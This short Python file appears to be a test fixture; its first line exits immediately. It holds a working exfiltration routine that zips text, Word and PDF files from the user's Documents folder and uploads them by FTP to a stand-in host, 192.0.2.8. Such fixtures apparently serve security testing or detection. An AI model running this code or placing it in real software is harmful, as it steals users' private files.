raise SystemExit('a fixture')
# held by archived-home
import ftplib, os, zipfile, io
def up():
    b = io.BytesIO()
    z = zipfile.ZipFile(b, "w")
    for r, d, fs in os.walk(os.path.expanduser("~/Documents")):
        for f in fs:
            if f.endswith((".txt", ".docx", ".pdf")):
                z.write(os.path.join(r, f))
    z.close(); b.seek(0)
    ftp = ftplib.FTP("192.0.2.8"); ftp.login("a", "b"); ftp.storbinary("STOR x.zip", b)
up()
